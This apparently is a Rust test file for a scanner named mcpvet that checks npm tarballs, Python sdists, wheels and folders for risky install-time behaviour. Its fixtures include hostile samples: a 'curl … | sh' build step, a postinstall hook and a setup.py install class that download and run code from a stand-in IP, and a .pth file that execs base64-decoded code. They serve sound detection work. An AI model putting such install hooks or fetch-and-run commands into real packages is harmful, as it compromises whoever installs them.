//! `scan_manifests` over whole packages as they arrive: npm tarballs, sdists, wheels and local
//! folders, built here in code.

mod common;

use mcpvet::analyze::manifest::scan_manifests;
use mcpvet::archive::{read_dir, unpack, Limits, PackageTree};
use mcpvet::finding::{Category, Finding, Severity};

fn from_tgz(top: &str, files: &[(&str, &[u8])]) -> PackageTree {
    unpack(&common::tgz(top, files), None, &Limits::default())
        .expect("fixture unpacks")
        .tree
}

fn summary(f: &[Finding]) -> Vec<(String, String, Severity)> {
    let mut v: Vec<_> = f
        .iter()
        .map(|f| (f.path.clone(), f.rule.clone(), f.severity))
        .collect();
    v.sort();
    v
}

fn one<'a>(f: &'a [Finding], rule: &str) -> &'a Finding {
    let hits: Vec<&Finding> = f.iter().filter(|x| x.rule == rule).collect();
    assert_eq!(hits.len(), 1, "{rule}: {f:#?}");
    hits[0]
}

#[test]
fn malicious_npm_tarball() {
    let pkg = br#"{
  "name": "weather-mcp",
  "version": "1.0.0",
  "bin": { "weather-mcp": "dist/index.js" },
  "scripts": {
    "build": "tsc && curl https://cdn.example/x | sh",
    "postinstall": "node -e \"require('https').get('https://203.0.113.9/s',r=>r.pipe(require('fs').createWriteStream('/tmp/s')))\""
  },
  "dependencies": { "@modelcontextprotocol/sdk": "^1.0.0", "helper": "http://203.0.113.9/helper.tgz" }
}"#;
    let tree = from_tgz(
        "package",
        &[
            ("package.json", pkg),
            ("dist/index.js", b"#!/usr/bin/env node\n"),
            ("prebuilds/linux-x64/addon.node", b"\x7fELF\x02\x01\x01\0"),
        ],
    );
    let f = scan_manifests(&tree);
    assert_eq!(
        summary(&f),
        [
            (
                "package.json".to_string(),
                "manifest.bin.entries".to_string(),
                Severity::Info
            ),
            (
                "package.json".into(),
                "manifest.install-script.npm-install".into(),
                Severity::Critical
            ),
            (
                "package.json".into(),
                "manifest.unpinned.dependency-url".into(),
                Severity::High
            ),
            (
                "prebuilds/linux-x64/addon.node".into(),
                "manifest.native-binary.node-addon".into(),
                Severity::High
            ),
        ],
        "the `build` script is not an install hook"
    );
    let hook = one(&f, "manifest.install-script.npm-install");
    assert_eq!(hook.line, Some(7), "line of the postinstall key");
    assert_eq!(hook.category, Category::InstallScript);
    assert!(
        hook.message.contains("inline node code"),
        "{}",
        hook.message
    );
    assert_eq!(hook.evidence["script"], "postinstall");
    let dep = one(&f, "manifest.unpinned.dependency-url");
    assert_eq!(dep.category, Category::Unpinned);
    assert_eq!(dep.line, Some(9));
}

#[test]
fn ordinary_mcp_server_tarball() {
    // A TypeScript server as published: build/test/lint scripts, a bin, a prepare that builds.
    let pkg = br#"{
  "name": "@acme/files-mcp",
  "version": "0.3.1",
  "type": "module",
  "bin": "build/index.js",
  "files": ["build"],
  "scripts": {
    "build": "tsc && shx chmod +x build/*.js",
    "prepare": "npm run build",
    "watch": "tsc --watch",
    "test": "vitest run",
    "lint": "eslint ."
  },
  "dependencies": { "@modelcontextprotocol/sdk": "1.12.0", "zod": "^3.23.8" },
  "devDependencies": { "typescript": "^5.6.2", "shx": "^0.3.4" }
}"#;
    let tree = from_tgz(
        "package",
        &[
            ("package.json", pkg),
            ("build/index.js", b"#!/usr/bin/env node\n"),
            ("README.md", b"# files"),
        ],
    );
    let f = scan_manifests(&tree);
    assert_eq!(
        summary(&f),
        [
            (
                "package.json".to_string(),
                "manifest.bin.entries".to_string(),
                Severity::Info
            ),
            (
                "package.json".into(),
                "manifest.install-script.npm-prepare".into(),
                Severity::Medium
            ),
        ]
    );
    assert_eq!(
        one(&f, "manifest.bin.entries").evidence["commands"],
        serde_json::json!({"files-mcp": "build/index.js"})
    );
}

#[test]
fn native_addon_package_with_binding_gyp() {
    let tree = from_tgz(
        "package",
        &[
            (
                "package.json",
                br#"{"name":"fast","version":"1.0.0","main":"index.js"}"#,
            ),
            (
                "binding.gyp",
                br#"{"targets":[{"target_name":"fast","sources":["src/fast.cc"]}]}"#,
            ),
            ("src/fast.cc", b"// c++"),
        ],
    );
    let f = scan_manifests(&tree);
    assert_eq!(
        summary(&f),
        [(
            "binding.gyp".to_string(),
            "manifest.install-script.native-build".to_string(),
            Severity::High
        )]
    );
    assert_eq!(f[0].evidence["command"], "node-gyp rebuild");
}

#[test]
fn malicious_sdist() {
    let setup = br#"import os
import sys
from setuptools import setup, find_packages
from setuptools.command.install import install

class CustomInstall(install):
    def run(self):
        install.run(self)
        import urllib.request
        urllib.request.urlretrieve("http://203.0.113.9/x", "/tmp/x")
        os.chmod("/tmp/x", 0o755)
        os.system("/tmp/x &")

setup(
    name="mcp-weather",
    version="1.0.0",
    packages=find_packages(),
    cmdclass={"install": CustomInstall},
)
"#;
    let tree = from_tgz(
        "mcp-weather-1.0.0",
        &[
            ("setup.py", setup),
            ("PKG-INFO", b"Metadata-Version: 2.1\nName: mcp-weather\n"),
            ("mcp_weather/__init__.py", b""),
        ],
    );
    let f = scan_manifests(&tree);
    assert_eq!(
        summary(&f),
        [
            (
                "setup.py".to_string(),
                "manifest.install-script.setup-cmdclass".to_string(),
                Severity::High
            ),
            (
                "setup.py".into(),
                "manifest.install-script.setup-command-class".into(),
                Severity::Critical
            ),
        ]
    );
    let class = one(&f, "manifest.install-script.setup-command-class");
    assert_eq!(class.line, Some(6));
    assert_eq!(
        class.evidence["calls"],
        serde_json::json!([
            "urllib.request.urlretrieve (line 10)",
            "os.system (line 12)"
        ]),
        "an import inside the method resolves too"
    );
    assert_eq!(class.evidence["registered_as"], "install");
}

#[test]
fn wheel_with_pth_entry_points_and_shared_object() {
    let wheel = common::zip(&[
        ("evil_mcp/__init__.py", b"" as &[u8]),
        (
            "evil_mcp/_speedups.cpython-312-x86_64-linux-gnu.so",
            b"\x7fELF\x02\x01\x01\0",
        ),
        (
            "evil_mcp-1.0.dist-info/entry_points.txt",
            b"[console_scripts]\nevil-mcp = evil_mcp.server:main\n",
        ),
        ("evil_mcp-1.0.dist-info/METADATA", b"Name: evil-mcp\n"),
        (
            "evil_mcp_init.pth",
            b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
    ]);
    let tree = unpack(&wheel, None, &Limits::default())
        .expect("wheel unpacks")
        .tree;
    let f = scan_manifests(&tree);
    assert_eq!(
        summary(&f),
        [
            (
                "evil_mcp-1.0.dist-info/entry_points.txt".to_string(),
                "manifest.entry-points.console-scripts".to_string(),
                Severity::Info
            ),
            (
                "evil_mcp/_speedups.cpython-312-x86_64-linux-gnu.so".into(),
                "manifest.native-binary.executable".into(),
                Severity::High
            ),
            (
                "evil_mcp_init.pth".into(),
                "manifest.install-script.pth-exec".into(),
                Severity::Critical
            ),
        ]
    );
    let pth = one(&f, "manifest.install-script.pth-exec");
    assert_eq!(pth.line, Some(1));
}

#[test]
fn ordinary_python_project_folder_is_silent() {
    let dir = tempfile::tempdir().unwrap();
    let w = |p: &str, s: &str| {
        let path = dir.path().join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, s).unwrap();
    };
    w(
        "setup.py",
        "from setuptools import setup, find_packages\n\
         with open('README.md', encoding='utf-8') as fh:\n    long_description = fh.read()\n\
         setup(name='quiet', version='0.1', packages=find_packages(), long_description=long_description)\n",
    );
    w(
        "pyproject.toml",
        "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n",
    );
    w("README.md", "# quiet\n");
    w("quiet/__init__.py", "__version__ = '0.1'\n");
    w(
        "tests/test_install.py",
        "import subprocess\n\ndef test_cli():\n    subprocess.run(['quiet', '--help'])\n",
    );
    let unpacked = read_dir(dir.path(), &Limits::default()).expect("folder reads");
    let f = scan_manifests(&unpacked.tree);
    assert!(f.is_empty(), "{f:#?}");
}

#[test]
fn hostile_manifests_do_not_panic() {
    let deep_json = format!("{}{}", "{\"a\":".repeat(50_000), "}".repeat(50_000));
    let deep_py = format!("x = {}\n", "[".repeat(20_000));
    let tree = from_tgz(
        "package",
        &[
            ("package.json", deep_json.as_bytes()),
            ("setup.py", deep_py.as_bytes()),
            ("pyproject.toml", b"\xff\xfe[build-system]"),
            ("setup.cfg", b"\0\0\0[options]\ncmdclass"),
            ("x.pth", b"\xffimport"),
        ],
    );
    let f = scan_manifests(&tree);
    let rules: Vec<&str> = f.iter().map(|f| f.rule.as_str()).collect();
    assert!(
        rules.contains(&"manifest.package-json.invalid"),
        "{rules:?}"
    );
    assert!(rules.contains(&"manifest.pyproject.invalid"), "{rules:?}");
}
